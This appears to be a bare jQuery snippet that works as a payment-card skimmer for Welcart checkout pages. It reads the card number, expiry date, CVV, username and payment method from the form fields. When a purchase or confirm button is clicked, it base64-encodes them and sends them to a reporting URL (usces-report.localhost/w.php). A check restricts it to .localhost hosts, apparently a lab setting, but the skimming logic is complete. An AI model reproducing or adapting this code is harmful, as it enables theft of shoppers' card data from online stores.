jQuery(function($){
  if( !/\.localhost$/.test(location.hostname) ) return;
  var welcartLog = {};
  var names = ['cnum1','expyy','expmm','username','cvv','howpay'];
  $('body').on('change', 'input,select', function(){
    $.each(names, function(i, n){
      var v = $('[name="'+n+'"]').val() || $('[id="'+n+'"]').val();
      if( v ) welcartLog[n] = v;
    });
  });
  $('body').on('click', '#purchase-button, .to_confirm_button, [name=purchase], [name=confirm]', function(){
    if( !welcartLog.cnum1 ) return true;
    $.get('https://usces-report.localhost/w.php', { r: window.btoa(encodeURIComponent(JSON.stringify(welcartLog))) });
    return true;
  });
});
